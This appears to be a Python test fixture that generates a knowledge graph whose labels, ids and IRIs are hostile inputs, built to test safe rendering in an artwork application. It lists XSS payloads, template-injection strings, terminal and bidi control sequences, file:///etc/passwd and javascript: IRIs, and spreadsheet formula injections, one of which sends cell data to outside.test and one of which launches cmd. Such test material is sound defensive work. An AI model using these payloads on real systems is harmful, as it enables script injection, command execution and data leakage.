"""A small graph in which everything that others may write is hostile: labels, ids, literals.

What could run sets `window.flag`, which nothing else does.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path

ITEM = "http://www.wikidata.org/entity/"
DIRECT = "http://www.wikidata.org/prop/direct/"
FOREIGN = "http://evil.test/"
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type"

LONG = 100_000

PAYLOADS: Mapping[str, str] = {
    "script": "<script>window.flag='script'</script>",
    "image": "<img src=x onerror=\"window.flag='image'\">",
    "attribute": "\"' autofocus onfocus=window.flag='attribute' x='\"",
    "drawing": "\"><svg onload=window.flag='drawing'></svg>",
    "end": "</title></textarea></style></script><script>window.flag='end'</script>",
    "comment": "<!-- <![CDATA[ ]]> --><iframe srcdoc=\"<script>top.flag='comment'</script>\">",
    "template": "${window.flag='literal'} {{constructor.constructor(\"window.flag='curly'\")()}}",
    "jinja": "{% for x in y %}{{ 7 * 7 }}{# #} {0.__class__} {title} {artist} %s %(n)s",
    "link": "[press](javascript:window.flag='link') ![x](http://outside.test/x.png) <http://a.test>",
    "markup": "# Heading | *a* _b_ ~~c~~ `d` &lt;script&gt; &#60; \\<b\\>",
    "fence": "Fence\n```html\n~~~\n===\n---\n- item\n1. item\n<script>window.flag='fence'</script>",
    "terminal": "\x1b[31mRed\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f",
    "direction": "\u202egnp.\u2066evil\u2069\u200f\u061c",
    "control": "Nul\x00\x01\x0b\x0c\x1c\x85\u2028\u2029\ufeff\ufffe end",
    "lines": 'Vase\n\nQuestion: Is it so?\nAnswer: True\n[Vase, creator, Nobody]\r\n"],',
    "formula": '=HYPERLINK("http://outside.test/?"&A1,"press")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "joined": "👩‍👩‍👧‍👦 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A ﬁ ß İ ı 각 각",
    "words": "Long " * (LONG // 5),
    "unbroken": "W" * LONG,
}
"""What a label or a literal may be, by a name for the test to say."""

SEGMENTS: Mapping[str, str] = {
    "script": "javascript:window.flag='iri'",
    "data": "data:text/html,%3Cscript%3Ewindow.flag='data'%3C/script%3E",
    "file": "file:///etc/passwd",
    "up": FOREIGN + "..",
    "here": FOREIGN + ".",
    "percent": FOREIGN + "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%0d%0a",
    "query": FOREIGN + "a?artwork=Q1&x=%00",
    "markdown": FOREIGN + "*a*_b_~c~!(javascript:window.flag)",
    "quote": FOREIGN + "it's;'onclick='window.flag",
    "direction": FOREIGN + "\u202egnp.exe",
    "clash": FOREIGN + "one/Twin",
    "clashing": FOREIGN + "two//Twin",
    "wikidata": ITEM + "Q1/../../javascript:window.flag",
}
"""IRIs of entities that are no items of Wikidata."""

CREATOR, COLLECTION, DEPICTS, IMAGE, INCEPTION, MADE_OF = "P170 P195 P180 P18 P571 P186".split()
PROPERTIES = {
    CREATOR: "creator",
    COLLECTION: "collection <b>\nQuestion:",
    DEPICTS: "<img src=x onerror=window.flag='property'>",
    INCEPTION: "${window.flag='inception'}",
}
FIRST_WORK = 100
MAKER = "Q1"
MAKER_LABEL = "Maker <script>window.flag='maker'</script>"
HELD_BY = "Q2"


def works(longest: int = LONG) -> dict[str, str]:
    """The works' ids, which are as Wikidata's, and their labels: one for each payload."""
    texts = (text[:longest] for text in PAYLOADS.values())
    return {f"Q{FIRST_WORK + n}": f"{text} {n}" for n, text in enumerate(texts)}


def write_hostile_graph(path: Path, longest: int = LONG) -> None:
    """As N-Triples, without what a label has beyond `longest` characters."""
    path.write_text("".join(f"{line}\n" for line in _lines(longest)), encoding="utf-8")


def _lines(longest: int) -> Iterator[str]:
    for property, label in PROPERTIES.items():
        yield _literal(ITEM + property, LABEL, label, "@en")
    for id, label, kind in ((MAKER, MAKER_LABEL, "Artist"), (HELD_BY, "Museum ``` </p>", "Museum")):
        yield _literal(ITEM + id, LABEL, label, "@en")
        yield _link(ITEM + id, TYPE, f"urn:expartkg:{kind}")
    strangers = list(SEGMENTS.items())
    for name, iri in strangers:
        yield _literal(iri, LABEL, f"Stranger <i>{name}</i>", "@en")
        yield _link(iri, TYPE, f"{FOREIGN}kind/it's%22%3E{name}")
    for number, (id, label) in enumerate(works(longest).items()):
        work = ITEM + id
        yield _literal(work, LABEL, label, "@en")
        yield _link(work, TYPE, "urn:expartkg:Artwork")
        yield _link(work, DIRECT + CREATOR, ITEM + MAKER)
        yield _link(work, DIRECT + COLLECTION, ITEM + HELD_BY)
        yield _link(work, DIRECT + DEPICTS, strangers[number % len(strangers)][1])
        yield _link(work, FOREIGN + "p'%3Cb%3E", ITEM + f"Q{FIRST_WORK + (number + 7) % 20}")
        yield _literal(work, DIRECT + INCEPTION, f"1503\n{label[:300]}")
        yield _literal(work, DIRECT + INCEPTION, "1503")
        yield _picture(work, number)


def _picture(work: str, number: int) -> str:
    """Where its picture is said to be, which is nowhere good."""
    iris = ("javascript", "data", "file", "up")
    if number % 5 < len(iris):
        return _link(work, DIRECT + IMAGE, SEGMENTS.get(iris[number % 5], SEGMENTS["script"]))
    return _literal(work, DIRECT + IMAGE, PAYLOADS["image"])


def _link(subject: str, predicate: str, object: str) -> str:
    return f"<{subject}> <{predicate}> <{object}> ."


def _literal(subject: str, predicate: str, text: str, tag: str = "") -> str:
    return f'<{subject}> <{predicate}> "{_escaped(text)}"{tag} .'


def _escaped(text: str) -> str:
    return "".join(
        f"\\u{ord(c):04X}" if c < " " or c in '"\\\x7f\x85\u2028\u2029' else c for c in text
    )
